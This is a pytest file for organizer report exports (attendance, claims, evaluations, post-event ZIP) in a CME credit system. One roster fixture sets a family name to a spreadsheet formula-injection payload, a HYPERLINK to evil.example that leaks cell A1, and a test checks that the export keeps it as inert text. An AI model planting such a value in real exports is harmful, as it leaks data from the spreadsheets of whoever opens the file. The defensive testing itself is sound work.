"""Reports an organizer downloads: parsed as CSV and checked against the stored records; names that a
spreadsheet would run as formulas stay text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from builders import answers, at, roster_rows, scan, worked_example_activity
from stack_support import http

EXAMPLE_1 = [
    scan("e1", "B-1001", "Hall-A", "07:50"),
    scan("e2", "B-1001", "Room-201", "09:50"),
    scan("e3", "B-1001", "Room-201", "12:05", direction="exit"),
    scan("n1", "B-1002", "Room-201", "09:50"),
    scan("m1", "B-1005", "Hall-A", "08:00"),
    scan("m2", "B-1005", "Hall-A", "08:45", direction="exit"),
]
MISCHIEF = {
    "badge_id": "B-1005",
    "given_name": "Eve",
    "family_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "email": "eve@example.org",
    "profession": "physician",
    "degree": "MD",
}


@pytest.fixture
def meeting(api, stack, activity_id):
    from cme.auth import issue_learner_token

    stack.set_clock(datetime.fromisoformat(at("07:00")))
    assert api.put_activity(activity_id, worked_example_activity()).status == 201
    assert api.post_roster(activity_id, [*roster_rows(), MISCHIEF]).status == 200
    stack.set_clock(datetime.fromisoformat(at("12:30")))
    assert api.post_scans(activity_id, EXAMPLE_1).status == 200
    stack.settle()
    token = issue_learner_token(activity_id, "B-1001", datetime.now(UTC) + timedelta(days=400))
    body = {"answers": answers(), "attest": True, "claims": {"AMA_PRA_1": {"S1": 1.0, "S2": 2.0}}}
    assert api.evaluate(token, body).status == 202
    stack.settle()
    return activity_id


def _report(api, activity_id: str, name: str):  # type: ignore[no-untyped-def]
    return http("GET", f"{api.url}/activities/{activity_id}/reports/{name}", token=api.organizer)


def _rows(reply) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert reply.status == 200, reply.body
    assert reply.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in reply.headers["Content-Disposition"]
    text = reply.body.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_attendance_csv_matches_the_stored_attendance(api, meeting):
    from cme.adapters import store

    rows = _rows(_report(api, meeting, "attendance.csv"))
    stored = {(b, a.session_id): a for b, a in store.all_attendance(meeting)}
    assert {(r["badge_id"], r["session_id"]) for r in rows} == set(stored)
    for row in rows:
        attendance = stored[(row["badge_id"], row["session_id"])]
        assert int(row["minutes"]) == attendance.minutes
        assert row["explanation"] == attendance.explanation
    ana_s1 = next(r for r in rows if r["badge_id"] == "B-1001" and r["session_id"] == "S1")
    assert ana_s1["AMA_PRA_1"] == "1.5" and ana_s1["ANCC"] == "" and ana_s1["date"] == "2027-10-14"
    nurse_s2 = next(r for r in rows if r["badge_id"] == "B-1002" and r["session_id"] == "S2")
    assert nurse_s2["ANCC"] == "1.75" and nurse_s2["AMA_PRA_1"] == ""  # a nurse's row shows nursing credit
    assert "B-1005" in {r["badge_id"] for r in rows}


def test_claims_csv_matches_the_claims_and_certificates(api, meeting):
    from cme.adapters import store
    from cme.auth import certificate_id

    rows = _rows(_report(api, meeting, "claims.csv"))
    assert [r["badge_id"] for r in rows] == ["B-1001"]
    [row] = rows
    claim = store.get_claim(meeting, "B-1001")
    assert Decimal(row["AMA_PRA_1"]) == Decimal(str(claim["totals"]["AMA_PRA_1"])) == Decimal("3")
    assert row["claim_version"] == "1" and row["certificate_id"] == certificate_id(meeting, "B-1001")
    assert row["certificate_status"] == "valid" and row["mail"] == "sent" and row["delivery"] == "delivered"


def test_a_name_written_as_a_formula_stays_text(api, meeting):
    rows = _rows(_report(api, meeting, "attendance.csv"))
    [eve] = [r for r in rows if r["badge_id"] == "B-1005"]
    assert eve["family_name"] == "'" + MISCHIEF["family_name"]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_unknown_reports_and_strangers_are_refused(api, stack, meeting):
    from builders import http_event, organizer_claims

    reply = _report(api, meeting, "budget.xlsx")
    assert reply.status == 404 and "attendance.csv" in reply.json["error"]["message"]
    assert http("GET", f"{api.url}/activities/{meeting}/reports/claims.csv").status == 401
    event = http_event(
        "GET",
        f"/activities/{meeting}/reports/claims.csv",
        route="/activities/{activity_id}/reports/{name}",
        path_parameters={"activity_id": meeting, "name": "claims.csv"},
        claims=organizer_claims(activities="another-activity"),
    )
    assert stack.host.invoke("OrganizerApiFunction", event)["statusCode"] == 403


def test_evaluations_csv_summarises_answers_without_naming_anyone(api, stack, meeting):
    from cme.auth import issue_learner_token

    token = issue_learner_token(meeting, "B-1002", datetime.now(UTC) + timedelta(days=400))
    body = {
        "answers": answers(
            objectives_met=3,
            overall_quality=4,
            free_of_commercial_bias="no",
            free_of_commercial_bias_comment="One device brand on every slide.",
            practice_change="Daily weights for every heart failure patient.",
        ),
        "attest": True,
    }
    assert api.evaluate(token, body).status == 202
    stack.settle()
    reply = _report(api, meeting, "evaluations.csv")
    rows = _rows(reply)
    by = {(r["section"], r["question_id"]): r for r in rows if r["section"] in ("rating", "answers", "free text")}
    objectives = by[("rating", "objectives_met")]
    assert objectives["responses"] == "2" and objectives["mean"] == "4.00"
    assert objectives["distribution"] == "1:0 2:0 3:1 4:0 5:1" and objectives["scope"] == "ACTIVITY"
    assert by[("answers", "free_of_commercial_bias")]["distribution"] == "yes:1 no:1"
    [comment] = [r for r in rows if r["section"] == "comment"]
    assert (comment["answer"], comment["comment"]) == ("no", "One device brand on every slide.")
    texts = {r["answer"] for r in rows if r["section"] == "text" and r["question_id"] == "practice_change"}
    assert texts == {
        "Earlier lactate measurement in suspected sepsis.",
        "Daily weights for every heart failure patient.",
    }
    content = reply.body.decode("utf-8-sig")
    for personal in ("B-1001", "B-1002", "Pérez", "Żółć", "@example.org"):
        assert personal not in content


def test_the_post_event_package_holds_counts_participants_and_every_report(api, meeting):
    import zipfile

    reply = _report(api, meeting, "post-event.zip")
    assert reply.status == 200 and reply.headers["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(reply.body))
    assert archive.testzip() is None
    names = sorted(name.split("/", 1)[1] for name in archive.namelist())
    assert names == sorted(
        ["README.txt", "summary.csv", "participants.csv", "attendance.csv", "claims.csv", "evaluations.csv"]
    )

    def table(name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(archive.read(f"{meeting}/{name}").decode("utf-8-sig"))))

    summary = {row["measure"]: row["value"] for row in table("summary.csv")}
    assert summary["registered"] == "6" and summary["attended at least one session"] == "3"
    assert summary["learners who claimed credit"] == "1" and summary["certificates issued"] == "1"
    assert summary["credit claimed: AMA_PRA_1"] == "3.0" and summary["registered: physician"] == "3"
    participants = {row["badge_id"]: row for row in table("participants.csv")}
    assert participants["B-1001"]["sessions_attended"] == "2" and participants["B-1001"]["minutes"] == "205"
    assert participants["B-1001"]["AMA_PRA_1"] == "3.0" and participants["B-1003"]["sessions_attended"] == "0"
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8")
    assert "@example.org" not in everything and "123456" not in everything  # no email, no board id
    assert table("claims.csv") == _rows(_report(api, meeting, "claims.csv"))
